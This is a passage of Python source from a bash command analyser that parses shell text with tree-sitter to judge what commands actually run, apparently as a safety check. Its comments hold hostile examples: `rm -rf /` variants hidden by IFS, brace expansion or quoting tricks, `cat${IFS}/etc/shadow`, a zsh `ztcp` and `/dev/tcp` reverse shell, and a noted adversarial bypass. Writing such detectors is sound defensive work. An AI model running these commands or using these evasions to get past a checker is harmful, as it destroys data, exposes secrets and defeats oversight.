            cond = t in _MAY_NOT_RUN
            self.st.cond += cond
            dead = _dead_children(node, t) if self.mark_inert and t in _DEAD_PARENTS else {}
            if dead and not self.plain_line():
                dead = {}  # the line's text is read only where something would be marked
            try:
                for i, c in enumerate(node.children):
                    if c.is_named:
                        start = len(self.st.script.commands)
                        self.walk(c, depth + 1, pipe_src if t in ("negated_command", "compound_statement") else None)
                        if pipe_src and t == "while_statement" and c.type != "do_group":
                            self._read_from_pipe(c, pipe_src)
                        if i in dead:
                            self._mark(start, dead[i])
            finally:
                self.st.cond -= cond

    def _set_opaque(self, name: str) -> None:
        self.st.sources.pop(name, None)
        self.st.origins.pop(name, None)
        if self.st.opaque is not None:
            self.st.opaque.add(name)

    def heredoc_subs(self, node: Any, depth: int) -> None:
        for c in node.children or [node]:
            if c.type in ("command_substitution", "expansion", "simple_expansion", "arithmetic_expansion"):
                self.word(c, depth + 1)
            elif c.type in ("heredoc_content", "heredoc_body") and b"`" in c.text:
                # tree-sitter-bash leaves `cmd` in an unquoted body as text; bash runs it as it runs $(cmd) there.
                for code in _backquoted(_text(c)):
                    self.backquoted(code, depth + 1)

    def backquoted(self, code: str, depth: int, where: str = "a here-document") -> None:
        """Walk the commands of backquoted *code* that tree-sitter left as text (a here-document's body): they run,
        their output taken by the substitution."""
        if depth > MAX_DEPTH:
            raise TooLarge("the command is nested too deeply to analyse")
        data = code.encode("utf-8", "surrogateescape")
        tree = parser().parse(data)
        if tree.root_node.has_error:
            self.st.script.problems.append(("shell.dynamic-code", f"{where} runs a backquoted command clearance cannot read: `{code[:60]}`"))
            return
        saved_cwd, saved_source = self.st.cwd, self.st.source
        saved_pending, self.pending = self.pending, []
        self.st.source = data  # the nodes' offsets are the code's
        start = len(self.st.script.commands)
        try:
            for c in tree.root_node.children:
                if c.is_named:
                    self.walk(c, depth + 1, None)
            for n in self.pending:
                self.walk(n, depth + 1, None)
        finally:
            self.pending = saved_pending
            self.st.cwd, self.st.source = saved_cwd, saved_source
        for c in self.st.script.commands[start:]:
            c.captured = True

    def redirect(self, node: Any, depth: int, extra: list[Word] | None = None) -> Redirect:
        t = node.type
        if t == "heredoc_redirect":
            delim = ""
            body = ""
            quoted = False
            # tree-sitter-bash glues a body whose first line starts with a backslash (`\\rm -rf ~`,
            # psql's `\\! cmd`) onto the words of the `<<EOF` line and leaves heredoc_body short or
            # empty: the body is then taken from the source, from the line after `<<EOF` to the end line.
            text: bytes = node.text
            base = node.start_byte
            start = next((c for c in node.children if c.type == "heredoc_start"), None)
            end = next((c for c in node.children if c.type == "heredoc_end"), None)
            line_end = text.find(b"\n", start.end_byte - base) + base if start is not None else -1
            glued = [
                c
                for c in node.children
                if c.is_named and c.type not in ("heredoc_start", "heredoc_body", "heredoc_end") and line_end >= base and c.end_byte > line_end
            ]
            for c in node.children:
                if c.type == "heredoc_start":
                    delim = _text(c)
                    quoted = any(q in delim for q in "'\"\\")
                elif c.type == "heredoc_body":
                    body = _text(c)
                    if not quoted and not glued:
                        self.heredoc_subs(c, depth)
                elif c.is_named and c.type != "heredoc_end":
                    if c in glued:
                        if c.start_byte < line_end:
                            # `<<EOF | cmd` whose cmd swallowed the body's first line: not read the way bash reads it.
                            self.st.script.problems.append(
                                ("shell.parse-error", "a here-document whose first line starts with a backslash follows other commands on its line")
                            )
                        continue
                    # tree-sitter-bash nests what follows `<<EOF` on the same line
                    # (more redirects, `| cmd`, `&& cmd`) inside the heredoc node.
                    self.pending.append(c)
            if glued and end is not None:
                body = text[line_end - base + 1 : end.start_byte - base].decode("utf-8", "replace")
                if not quoted and ("$" in body or "`" in body):
                    self.st.script.problems.append(
                        ("shell.dynamic-code", "a here-document whose first line starts with a backslash expands values clearance does not evaluate")
                    )
            return Redirect("<<", None, body=body, body_quoted=quoted)
        if t == "herestring_redirect":
            target = None
            for c in node.children:
                if c.is_named:
                    target = self.word(c, depth + 1)
            return Redirect("<<<", target, body=target.value if target else "")
        op = ""
        fd = ""
        target = None
        for c in node.children:
            if c.type == "file_descriptor" and target is None and not op:
                fd = _text(c)
            elif not c.is_named:
                op = _text(c).strip()
                if op == "<" and c.start_byte in self.st.read_write:
                    op = "<>"  # `N<>FILE` opens FILE for reading and writing on N (standard input without N)
            elif target is None:
                target = self.word(c, depth + 1)
            else:
                # tree-sitter attaches the words after a redirect's target to the redirect (`rm -rf >x /`,
                # `rm -rf 2>/dev/null ~/x`): bash passes them to the command as arguments.
                w = self.word(c, depth + 1)
                if extra is not None:
                    extra.append(w)
        if op == ">&" and target is not None and not target.value.isdigit() and target.value != "-":
            op = ">"
        return Redirect(op, target, fd)

    def redirected(self, node: Any, depth: int, pipe_src: list[SimpleCommand] | None) -> None:
        body = None
        redirects: list[Redirect] = []
        extra: list[Word] = []
        for c in node.children:
            if c.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                redirects.append(self.redirect(c, depth, extra))
            elif c.is_named and body is None:
                body = c
        while body is not None and body.type == "list":
            # tree-sitter hangs `a && cat > f <<EOF` 's redirections on the whole list; bash binds them to the last
            # command (a list is not a compound command): the rest runs without them.
            named = [c for c in body.children if c.is_named]
            if len(named) < 2:
                break
            for c in named[:-1]:
                self.walk(c, depth + 1, None)
            body = named[-1]
            depth += 1
        if body is not None and (body.type == "command" or (body.type == "declaration_command" and _listing(body))):
            start = len(self.st.script.commands)
            self.command(body, depth + 1, pipe_src, redirects, extra)
            after = body.next_sibling
            if after is not None and after.type == "heredoc_redirect" and len(self.st.script.commands) > start:
                gap = self.st.source[body.end_byte : after.start_byte]
                if gap.strip() == b"-":
                    # tree-sitter drops a lone `-` before `<<` (`python - <<EOF`); bash passes it.
                    cmd = self.st.script.commands[start]
                    cmd.argv = [*cmd.argv, Word("-", "-")]
            return
        start = len(self.st.script.commands)
        if body is not None:
            self.walk(body, depth + 1, pipe_src)
        cmds = self.st.script.commands[start:]
        if self.pending:
            nodes, self.pending = self.pending, []
            if cmds:
                self.trailing(cmds[0], nodes, depth)
            else:
                for n in nodes:
                    self.walk(n, depth + 1, None)
        if cmds:
            # A redirect on a compound statement applies to what runs inside it.
            for cmd in cmds:
                cmd.redirects = cmd.redirects + redirects
        else:
            self.st.script.commands.append(SimpleCommand([Word(":", ":")], redirects=redirects, cwd=self.st.cwd, text=_text(node)))

    def command(self, node: Any, depth: int, pipe_src: list[SimpleCommand] | None, redirects: list[Redirect], extra: list[Word] | None = None) -> None:
        argv: list[Word] = []
        argv_nodes: list[list[Any]] = []
        group: list[Any] = []
        assigns: dict[str, str] = {}
        redirects = list(redirects)
        prev_end = node.start_byte
        source = self.st.source
        last_end = -1  # where the last word's nodes (argv_nodes[-1]) end
        for c in node.children:
            ct = c.type
            start = c.start_byte
            if start > prev_end and source[prev_end:start].strip(b" \t\r\n\\"):
                # tree-sitter skipped text without a token (it drops `\$` after a quote, for one): bash reads it.
                lost = source[prev_end:start].decode("utf-8", "replace").strip()[:30]
                raise ParseFailure(f"clearance cannot read part of the command the way bash does ({lost!r})")
            if start > prev_end and b"\n" in source[prev_end:start]:
                k = source[prev_end:start].replace(b"\\\n", b"  ").find(b"\n")
                if k >= 0:
                    # A newline ends a command in bash; tree-sitter sometimes reads on into the next line (`a | b | c {}
                    # "$d"` then `rm -rf ~ >f`: rm's words became c's arguments). parse() marks the end and reads again.
                    from ..errors import RunawayLine

                    raise RunawayLine(prev_end + k)
            prev_end = c.end_byte
            if ct == "variable_assignment":
                name, value = "", ""
                for cc in c.children:
                    if cc.type == "variable_name" and not name:
                        name = _text(cc)
                    elif cc.type not in ("=", "+=") and cc.is_named:
                        value = self.word(cc, depth + 1).value
                if name and not argv_nodes and not group and _assignable(name):
                    assigns[name] = value
                elif name:
                    # `1A=2 cmd`: not a name bash assigns to, so the word is the command bash looks up (and fails).
                    group = [c]
            elif ct in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                redirects.append(self.redirect(c, depth))
            elif ct == "command_name":
                group = list(c.children)
            elif ct != "comment":
                # Unnamed tokens are words too: tree-sitter makes `==`, `=~` and `\$` tokens of their own.
                if ct == "regex" and any(ch in _text(c) for ch in "'\"\\$`"):
                    # `cmd ==$'x'`: tree-sitter reads a [[ ]] pattern where bash reads a word.
                    raise ParseFailure(f"clearance cannot read the word {_text(c)[:30]!r} the way bash does")
                group = [c]
            else:
                continue
            if group:
                # tree-sitter sometimes leaves parts of one word as siblings (`''\$`): bash reads one word.
                first = start if group[0] is c else group[0].start_byte
                if argv_nodes and last_end == first:
                    argv_nodes[-1].extend(group)
                else:
                    if argv_nodes:
                        argv.extend(self.argwords(argv_nodes.pop(), depth + 1))
                    argv_nodes.append(group)
                last_end = prev_end if group[-1] is c else group[-1].end_byte
                group = []
        if argv_nodes:
            argv.extend(self.argwords(argv_nodes.pop(), depth + 1))
        if extra:
            argv.extend(extra)  # words tree-sitter left on a redirect: arguments (see redirect())
        if "IFS" in assigns and (not argv or argv[0].value in _REPARSING):
            # A global IFS change, or one for a command that re-splits text (eval, a shell, source):
            # later words do not split the way they read. `IFS= read -r line` changes nothing here.
            self.st.script.problems.append(("shell.ifs-change", "the command changes IFS, so its words do not split the way they read"))
        if not argv:
            # Only assignments: they set shell variables for what follows.
            self.st.vars.update(assigns)
            for name in assigns:
                self.st.sources.pop(name, None)
            if redirects:
                self.st.script.commands.append(SimpleCommand([Word(":", ":")], redirects=redirects, cwd=self.st.cwd, text=_text(node)))
            return
        stdin_text = None
        for r in redirects:
            if r.op in ("<<", "<<<"):
                stdin_text = r.body
        first = argv[0].value
        if first in self.st.hashed and (first not in BASH_BUILTINS or first in self.st.disabled):
            argv[0] = self.st.hashed[first]
        if first in ("hash", "enable"):
            self._lookup_table(first, [w.value for w in argv[1:]], argv[1:])
        elif first == "ztcp" and not pipe_src:
            self._zsh_tcp([w.value for w in argv[1:]])
        elif first in ("printf", "read") and not pipe_src:
            self._assigning_builtin(first, argv[1:], redirects)
        elif first == "let":
            # Every argument of `let` is an arithmetic expression: a subscript anywhere in it is evaluated
            # (`let 'x=a[$(cmd)]'`, `let 'n+=b[`cmd`]'`), not only a word that is one NAME[…].
            for w in argv[1:]:
                for inner in _arith_subscripts_with_code(w.value):
                    self.evaluated_later(inner, "an array subscript bash evaluates")
        opening: list[Redirect] = []
        if first == "exec" and redirects:
            self.st.stdin_moved = True
        if first == "exec" and len(argv) == 1 and redirects and not pipe_src:
            opening = self._exec_descriptors(redirects)
        elif self.st.fds:
            used = self._use_descriptors(redirects)
            if used is None and not any(w.subs for w in argv):
                # A redirection to a closed descriptor fails, and bash then does not run the command.
                argv, redirects = [Word(":", ":")], []
            else:
                # A command that runs inherits the open descriptors (a script may write to 3): what exec opened
                # stays judged on the exec.
                self.st.fd_openers.clear()
                redirects = used if used is not None else redirects
        if self.st.exported:
            assigns = {**self.st.exported, **assigns}
        if "PATH" in self.st.vars and "PATH" not in assigns:
            # PATH comes exported from the environment: `PATH=./bin:$PATH; lint` looks lint up there (shell/pathlookup.py).
            assigns = {**assigns, "PATH": self.st.vars["PATH"]}
        unsure = tuple(sorted(n for n in self.st.unsure if n not in assigns)) if self.st.unsure else ()
        fed = pipe_src
        if not fed and stdin_text is None:
            # `python3 < <(gen)`: the input redirected from a process substitution is gen's output, as `gen | python3`
            # gives it (the last redirection of the input wins).
            feeder = next((r.target for r in reversed(redirects) if r.op == "<" and r.fd in ("", "0") and r.target is not None), None)
            if feeder is not None and feeder.procsub and feeder.subs:
                fed = feeder.subs
        cmd = SimpleCommand(
            argv,
            assigns=assigns,
            redirects=redirects,
            stdin_from=fed,
            stdin_text=stdin_text,
            cwd=self.st.cwd,
            depth=self.st.level,
            text=_text(node),
        )
        # (`coproc CMD` feeds CMD from a pipe the script writes to)
        cmd.ownstdin = not pipe_src and not self.st.stdin_moved and first != "coproc" and _tool_input(node)
        cmd.unsure_env = unsure
        self.st.script.commands.append(cmd)
        if cmd.name == "trap":
            self.st.traps.append((cmd, dict(self.st.vars)))
        for r in opening:
            self.st.fd_openers[r.fd] = (cmd, r)
        if cmd.name in ("source", ".", "eval"):
            self.st.sources.clear()  # code run in this shell may set any variable
            self.st.opaque = None
            script_arg = cmd.args[0].value if cmd.args and cmd.name != "eval" else ""
            if not (pathstr.basename(script_arg).startswith("activate") and pathstr.dirname(script_arg).endswith("bin")):
                self.st.unsure.add("*")  # and export it (a virtualenv's activate script sets what _activate reads)
        else:
            # `read TOKEN`, `printf -v TOKEN`, `mapfile TOKEN`: a command given the name may set it.
            for w in argv[1:]:
                settable = _settable(w.value)
                if settable:
                    self._set_opaque(settable)
        if cmd.name in self.functions and not cmd.via:
            self.call(cmd.name, cmd.args, depth)
        # A function of the builtin's name is what bash runs instead (its body, read by the call above, moves the shell
        # if it holds a cd), and a builtin `enable -n` switched off is looked up on PATH: a child process, which moves
        # nothing. Followed as the builtin, `cd() { :; }; cd /tmp && rm -f config.toml` was judged in /tmp while it
        # deleted in the folder the shell stayed in (adversarial round 19a).
        shadowed = cmd.name in self.functions or cmd.name in self.disabled
        if cmd.name in _DIR_CHANGERS and not cmd.stdin_from and not shadowed:
            self._follow_cd(cmd)
        elif cmd.name in ("builtin", "command", "eval") and not shadowed and any(d in a.value for a in cmd.args for d in ("cd", "pushd", "popd")):
            self._follow_wrapped_cd(cmd)
        elif cmd.name == "enable" and not shadowed:
            self._enable(cmd)
        elif cmd.name == "set" and cmd.args:
            self.st.physical = _set_option(cmd, "P", "physical", self.st.physical)
            self.st.allexport = _set_option(cmd, "a", "allexport", self.st.allexport)
        elif cmd.name == "shopt" and not shadowed:
            self._shopt(cmd)
        elif cmd.name in ("source", ".") and cmd.args:
            self._activate(cmd.args[0].value)
        elif cmd.name == "deactivate":
            self.st.exported.pop("VIRTUAL_ENV", None)
        if self.pending:
            nodes, self.pending = self.pending, []
            self.trailing(cmd, nodes, depth)

    def _zsh_tcp(self, vals: list[str]) -> None:
        """zsh's `ztcp` (the zsh/net/tcp module, zshmodules(1)) opens a TCP connection (`ztcp HOST [PORT]`), a listening
        socket (`ztcp -l PORT`) or accepts on one (`ztcp -a FD`), and puts the new descriptor's number in $REPLY (or
        in FD with -d): `ztcp HOST PORT; zsh <&$REPLY >&$REPLY` is `exec 3<>/dev/tcp/HOST/PORT; zsh <&3 >&3`, a
        reverse shell. The descriptor is noted as bash's /dev/tcp one (and taken as opened even in a branch: the
        worse reading), so the commands that use it are judged as talking to the network."""
        listen = accept = fixed = None
        operands: list[str] = []
        i = 0
        while i < len(vals):
            v = vals[i]
            if v in ("-c", "-L", "-t", "-h"):
                return  # close, list, test: nothing opened
            if v in ("-l", "-a", "-d") and i + 1 < len(vals):
                if v == "-l":
                    listen = vals[i + 1]
                elif v == "-a":
                    accept = vals[i + 1]
                else:
                    fixed = vals[i + 1]
                i += 2
                continue
            if not v.startswith("-"):
                operands.append(v)
            i += 1
        if accept is not None:
            opened = self.st.fds.get(accept)
            target = opened.target.value if opened is not None and opened.target is not None else "/dev/tcp/0.0.0.0/" + DYN
        elif listen is not None:
            target = f"/dev/tcp/0.0.0.0/{listen}"
        elif operands:
            target = f"/dev/tcp/{operands[0]}/{operands[1] if len(operands) > 1 else '23'}"
        else:
            return
        fd = fixed if fixed is not None and fixed.isdigit() else str(1000 + len(self.st.fds))
        self.st.fds[fd] = Redirect("<>", Word(target, target), fd=fd)
        # tree-sitter-bash hangs the redirections of the last command of `ztcp H P && zsh >&$REPLY` on the whole list,
        # so their words are read before ztcp is: a descriptor only known at run time is then taken as this socket.
        self.st.fds[DYN] = self.st.fds[fd]
        if "REPLY" not in self.st.readonly and fixed is None:
            self.st.vars["REPLY"] = fd
            self.st.unset.discard("REPLY")

    def _ifs_split(self, nodes: list[Any], depth: int) -> list[Word] | None:
        """`rm -rf$IFS/`, `cat${IFS}/etc/shadow`, `rm$IFS-rf$IFS/etc`: an unquoted $IFS splits the word where it stands
        (bash and dash set IFS to space, tab and newline at start-up, whatever the environment says; an assignment is
        shell.ifs-change's), so each side is a word of its own. None when no unquoted $IFS stands between the parts.
        tree-sitter leaves `$` and `IFS/etc` as two tokens after another expansion; they are read as bash reads them."""
        flat: list[Any] = []
        for n in nodes:
            flat.extend(n.children if n.type == "concatenation" else [n])
        out: list[Word] = []
        group: list[Any] = []
        prefix = ""
        found = False

        def flush() -> None:
            nonlocal prefix
            words = self.argwords(group, depth) if group else ([Word("", "")] if prefix else [])
            if prefix and words:
                first = words[0]
                words[0] = Word(prefix + first.value, prefix + first.raw, first.subs, first.procsub, first.vars, first.quoted, first.origin)
            out.extend(words)
            group.clear()
            prefix = ""

        i = 0
        while i < len(flat):
            n = flat[i]
            if _ifs_expansion(n):
                found = True
                flush()
            elif n.type == "$" and i + 1 < len(flat) and flat[i + 1].type == "word" and _ifs_head(_text(flat[i + 1])):
                rest = _text(flat[i + 1])[3:]
                if any(ch in rest for ch in "\\'\"$`*?[{"):
                    return None
                found = True
                flush()
                prefix = rest
                i += 1
            else:
                if prefix and not group and n.type != "word":
                    return None  # the rest of the word is more than literal text
                group.append(n)
            i += 1
        if not found:
            return None
        flush()
        if any(not w.value for w in out):
            return None  # `''${IFS}rm`: a quoted empty field bash keeps (an empty command name): left as it was read
        return out

    def argwords(self, nodes: list[Any], depth: int) -> list[Word]:
        """The words one shell word becomes (*nodes* are its adjacent parts)."""
        if "IFS" not in self.st.vars and any(b"IFS" in n.text for n in nodes):
            split = self._ifs_split(nodes, depth)
            if split is not None:
                return split
        braces = b"{" in nodes[0].text if len(nodes) == 1 else any(b"{" in n.text for n in nodes)
        parts = [self.word(n, depth, braces) for n in nodes]
        if len(parts) == 1:
            w = parts[0]
        else:
            w = Word(
                "".join(p.value for p in parts),
                "".join(p.raw for p in parts),
                [s for p in parts for s in p.subs],
                any(p.procsub for p in parts),
                tuple(v for p in parts for v in p.vars),
                any(p.quoted for p in parts),
                tuple(o for p in parts for o in p.origin),
            )
        node = nodes[0]
        if len(nodes) == 1 and node.type in ("simple_expansion", "expansion") and DYN not in w.value and any(c in w.value for c in " \t\n"):
            # An unquoted expansion is split into fields: cmd="rm -rf ~"; $cmd runs rm.
            value = w.value.translate(_UNPROTECT)
            return [Word(part, w.raw, w.subs, w.procsub, w.vars, False, w.origin) for part in value.split()]
        if not braces:
            return [w]
        # Brace expansion comes before quote removal: `{a,'b c'}` is two words, `'{'a,b}` one.
        values = expand_braces(w.value) if "{" in w.value and ("," in w.value or ".." in w.value) else [w.value]
        if len(values) > 1 and not w.quoted:
            values = [v for v in values if v] or [""]  # `{a,}`: an unquoted empty word disappears
        return [Word(v.translate(_UNPROTECT), w.raw, w.subs, w.procsub, w.vars, w.quoted, w.origin) for v in values]


_DEAD_PARENTS = frozenset({"list", "if_statement", "while_statement", "program"})


def _literal_status(node: Any) -> bool | None:
    """The exit status a node certainly has: `false` fails, `true` and `:` succeed; anything else is unknown."""
    if node.type != "command":
        return None
    text = _text(node).strip()
    return False if text == "false" else True if text in ("true", ":") else None


def _dead_children(node: Any, t: str) -> dict[int, str]:
    """The children of *node* that bash never runs, by index, with why: the operand after `false &&` or `true ||`
    (the status carries on through a chain), the body under `if false` / `while false` (and the other branches under
    `if true`), and what follows a top-level `exit`."""
    kids = node.children
    dead: dict[int, str] = {}
    if t == "list":
        status: bool | None = None
        op = ""
        for i, c in enumerate(kids):
            if not c.is_named:
                op = _text(c)
                continue
            if op and status is not None and ((op == "&&" and status is False) or (op == "||" and status is True)):
                dead[i] = f"the operand after `{'false &&' if status is False else 'true ||'}`"
                continue  # skipped: the status stays what it was
            status = _literal_status(c)
        return dead
    if t in ("if_statement", "while_statement"):
        then = next((i for i, c in enumerate(kids) if not c.is_named and _text(c) in ("then", "do")), None)
        conds = [c for c in kids[: then if then is not None else 0] if c.is_named]
        if t == "while_statement":
            # Every statement before `do` is the condition (`while false; true; do` loops: the last one decides).
            conds = [c for c in kids if c.is_named and c.type != "do_group"]
        # `if false & then`: a condition sent to the background succeeds (the job started), whatever it runs.
        status = _literal_status(conds[0]) if len(conds) == 1 and not _backgrounded(kids, kids.index(conds[0])) else None
        if status is None:
            return dead
        # tree-sitter-bash reads `until` as a while_statement too: its body runs while the condition fails.
        until = t == "while_statement" and bool(kids) and _text(kids[0]) == "until"
        for i, c in enumerate(kids):
            if not c.is_named or c in conds:
                continue
            branch = c.type in ("elif_clause", "else_clause")
            if t == "while_statement" and c.type == "do_group" and status is until:
                dead[i] = "the body of `until true`" if until else "the body of `while false`"
            elif t == "if_statement" and status is False and not branch:
                dead[i] = "the branch under `if false`"
            elif t == "if_statement" and status is True and branch:
                dead[i] = "a branch `if true` never takes"
        return dead
    ended = False
    for i, c in enumerate(kids):
        if not c.is_named:
            continue
        if ended:
            dead[i] = "what follows `exit`"
        elif c.type == "command" and (_text(c).strip() == "exit" or _text(c).startswith(("exit ", "exit\t"))):
            ended = not _backgrounded(kids, i)  # `exit &` leaves a background subshell, not the shell
    return dead


def _backgrounded(kids: list[Any], i: int) -> bool:
    """Whether the statement kids[i] is sent to the background (`&` after it)."""
    return i + 1 < len(kids) and not kids[i + 1].is_named and _text(kids[i + 1]) == "&"


# Syntax whose parts may not run: branches, loop bodies, the operands of && and ||.
_MAY_NOT_RUN = frozenset(
    {"list", "if_statement", "elif_clause", "else_clause", "case_statement", "case_item", "while_statement", "c_style_for_statement", "do_group"}
)


def _output_elsewhere(cmd: SimpleCommand) -> bool:
    """Whether the last redirection of the command's standard output (and none of its error output into it) sends
    it to a file: what it prints does not reach a pipe."""
    away = False
    for r in cmd.redirects:
        target = r.target.value if r.target is not None else ""
        if r.fd in ("", "1") and r.op in (">", ">>", ">|", "&>", "&>>") and DYN not in target:
            away = target not in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1")
        elif r.fd in ("", "1") and r.op == ">&":
            away = False if target.isdigit() or DYN in target else away  # 1>&2, >&3: elsewhere, but judge it
        elif r.fd == "2" and r.op == ">&" and target == "1":
            return False  # its error output follows into the pipe
    return away


def _listing(node: Any) -> bool:
    """A declaration (`declare`, `typeset`, `export`, `readonly`, `local`) with options only: it lists, it sets nothing."""
    rest = node.children[1:]
    return all(c.type == "word" and _text(c).startswith("-") for c in rest)


def _assignable(name: str) -> bool:
    """Whether bash assigns to *name* (letters, digits and _, not starting with a digit)."""
    plain = name.replace("_", "a")
    return plain.isascii() and plain.isalnum() and not name[0].isdigit()


def _subscript_with_code(value: str) -> str | None:
    """The subscript of NAME[SUBSCRIPT] (optionally followed by `=…` or `+=…`) when it holds `$(` or a backtick."""
    k = value.find("[")
    if k <= 0 or not (value[:k].isidentifier() and value[:k].isascii()):
        return None
    end = value.rfind("]")
    if end <= k:
        return None
    rest = value[end + 1 :]
    if rest and not rest.startswith(("=", "+=")):
        return None
    inner = value[k + 1 : end]
    return inner if ("$(" in inner or "`" in inner) else None


def _arith_subscripts_with_code(expr: str) -> list[str]:
    """The subscripts of every NAME[…] inside an arithmetic expression that hold `$(` or a backtick."""
    out = []
    for k, ch in enumerate(expr):
        if ch != "[" or k == 0 or not (expr[k - 1].isalnum() or expr[k - 1] == "_"):
            continue
        start = k
        while start > 0 and (expr[start - 1].isalnum() or expr[start - 1] == "_"):
            start -= 1
        inner = _subscript_with_code(expr[start : _closing_bracket(expr, k) + 1])
        if inner is not None:
            out.append(inner)
    return out


def _closing_bracket(text: str, k: int) -> int:
    """The index of the `]` that closes the `[` at *k* (the last character when it is never closed)."""
    level = 0
    for j in range(k, len(text)):
        if text[j] == "[":
            level += 1
        elif text[j] == "]":
            level -= 1
            if level == 0:
                return j
    return len(text) - 1


def _first_error(node: Any) -> Any:
    stack = [node]
    while stack:
        n = stack.pop()
        if n.type == "ERROR" or n.is_missing:
            return n
        if n.has_error:
            stack.extend(reversed(n.children))
    return None


_KEEPS_CONTINUATIONS = frozenset({"raw_string", "ansi_c_string", "comment"})


def _ansi_c_end(data: bytes, start: int) -> int:
    """Where bash ends the ``$'..'`` string starting at *start* (the closing quote, or len)."""
    i, n = start + 2, len(data)
    while i < n:
        b = data[i]
        if b == 0x5C:
            i += 2
        elif b == 0x27:
            return i
        else:
            i += 1
    return n


def _join_continuations(data: bytes, root: Any, blanks: bool = True) -> bytes:
    """*data* rewritten so tree-sitter reads it as bash does.

    ``\\\\`` inside ``$'..'``: tree-sitter reads ``\\\\'`` as an escaped quote
    and runs the string on (``$'\\\\' ; rm -rf / ; '`` would hide the ``rm``);
    bash reads an escaped backslash. It is rewritten ``\\x5c``, the same byte.

    Backslash-newline pairs bash removes while reading:
    Bash keeps them inside single quotes, ``$'..'``, comments and the bodies of
    here-documents with a quoted delimiter; everywhere else (unquoted words,
    double quotes, backticks, ``$( )``, unquoted here-document bodies) the pair
    disappears. Backslashes pair up left to right (``\\<newline>`` is an escaped
    backslash followed by a newline).
    """
    kept: list[tuple[int, int]] = []
    leaves: list[tuple[int, int]] = []
    ansi: list[int] = []
    stack = [root]
    while stack:
        n = stack.pop()
        t = n.type
        if not n.child_count:
            leaves.append((n.start_byte, n.end_byte))
        if t in _KEEPS_CONTINUATIONS:
            if t == "ansi_c_string" and b"\\\\" in data[n.start_byte + 2 : _ansi_c_end(data, n.start_byte)]:
                ansi.append(n.start_byte)
            kept.append((n.start_byte, n.end_byte))
            continue
        if t == "heredoc_redirect":
            quoted = False
            for c in n.children:
                if c.type == "heredoc_start":
                    quoted = any(q in _text(c) for q in "'\"\\")
                elif c.type == "heredoc_body" and quoted:
                    kept.append((c.start_byte, c.end_byte))
        if n.child_count:
            stack.extend(n.children)
    if ansi:
        # The first such string only: what follows it was read under the wrong ending.
        start = min(ansi)
        end = _ansi_c_end(data, start)
        body = data[start + 2 : end]
        fixed = bytearray()
        j = 0
        while j < len(body):
            if body[j] == 0x5C and j + 1 < len(body):
                fixed += b"\\x5c" if body[j + 1] == 0x5C else body[j : j + 2]
                j += 2
            else:
                fixed.append(body[j])
                j += 1
        return data[: start + 2] + bytes(fixed) + data[end:]
    if not blanks:
        return data
    kept.sort()
    leaves.sort()
    out = bytearray()
    i, n_ = 0, len(data)
    k = 0
    lf = 0
    while i < n_:
        while k < len(kept) and kept[k][1] <= i:
            k += 1
        if k < len(kept) and kept[k][0] <= i:
            end = kept[k][1]
            out += data[i:end]
            i = end
            continue
        b = data[i]
        if b == 0x5C and i + 1 < n_:  # backslash
            if data[i + 1] == 0x0A:
                i += 2
                continue
            if data[i + 1] in (0x20, 0x09):
                while lf < len(leaves) and leaves[lf][1] <= i:
                    lf += 1
                if lf >= len(leaves) or leaves[lf][0] > i:
                    # Outside every token: tree-sitter skipped it as a blank; bash reads a quoted blank.
                    out += b"' '" if data[i + 1] == 0x20 else b"'\t'"
                    i += 2
                    continue
            out += data[i : i + 2]
            i += 2
            continue
        out.append(b)
        i += 1
    return bytes(out)


_NAME_START = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_")
_NAME_REST = _NAME_START | frozenset(b"0123456789")


def _offset_param(data: bytes, p: int) -> tuple[int, int] | None:
    """The span of the name in a ``$name``, ``$1`` or ``$#`` at *p* (after blanks), or None."""
    n = len(data)
    while p < n and data[p] in b" \t":
        p += 1
    if p + 1 >= n or data[p] != 0x24:
        return None
    s = e = p + 1
    if data[s] in _NAME_START:
        while e < n and data[e] in _NAME_REST:
            e += 1
        return s, e
    if data[s] in b"0123456789#@*":
        return s, s + 1
    return None


def _brace_offsets(data: bytes, root: Any) -> bytes:
    """*data* with each ``$x`` that opens a substring offset (``${s:$i:1}``, ``${a[@]: $1}``)
    rewritten ``${x}``, the same expansion to bash.

    tree-sitter-bash's grammar wants a word, number or ``${..}`` after the ``:`` and reports a
    missing ``}`` before a ``$``, so an ordinary loop over a string's characters could not be
    read at all. Only the places where tree-sitter reported that missing ``}`` are rewritten.
    """
    edits: list[tuple[int, int, bytes]] = []
    stack = [root]
    while stack:
        n = stack.pop()
        if n.is_missing and n.type == "}" and n.parent is not None and n.parent.type == "expansion":
            p = n.start_byte
            q = p
            while q > n.parent.start_byte and data[q - 1] in b" \t":
                q -= 1
            name = _offset_param(data, p)
            if name and q > 0 and data[q - 1 : q] == b":":
                s, e = name
                edits.append((s - 1, e, b"${" + data[s:e] + b"}"))
        elif n.has_error:
            stack.extend(n.children)
    for start, end, text in sorted(edits, reverse=True):
        data = data[:start] + text + data[end:]
    return data


def _brace_command_words(data: bytes, root: Any) -> bytes:
    """*data* with each command word that begins with a brace expansion (``{rm,-rf,/}``) given an empty quoted
    preamble (``''{rm,-rf,/}``), the same words to bash.

    Bash reads ``{`` as the group's reserved word only when it stands alone; glued to more text it opens a word,
    which brace expansion splits (``{rm,-rf,/}`` runs ``rm -rf /``). tree-sitter-bash takes it for a group and reports
    an error: only such a ``{`` (in an error, followed by a character that continues a word) is rewritten, so the
    expanded words are read and judged as the command bash runs.
    """
    edits: list[int] = []
    stack = [root]
    while stack:
        n = stack.pop()
        if n.type == "{" and n.parent is not None and n.parent.type == "ERROR":
            nxt = data[n.end_byte : n.end_byte + 1]
            if nxt and nxt not in b" \t\r\n;&|()<>}":
                edits.append(n.start_byte)
        elif n.has_error:
            stack.extend(n.children)
    for start in sorted(edits, reverse=True):
        data = data[:start] + b"''" + data[start:]
    return data


# How often parse() marks the end of a command tree-sitter read on past, and reads the text again.
_RUNAWAY_RETRIES = 16


def _too_many_nodes(count: int) -> TooLarge:
    return TooLarge(f"the command has {count} syntax nodes, more than the {MAX_NODES} clearance analyses")


def _parse_bytes(data: bytes) -> Any:
    """tree-sitter's tree of *data*, stopped at the decision's deadline (PARSE_DEADLINE) for sources
    long enough to take a while; ParseTimeout when it ran out."""
    deadline = PARSE_DEADLINE.get()
    if deadline == float("inf") or len(data) <= _TIMED_PARSE_MIN:
        return parser().parse(data)
    from time import perf_counter

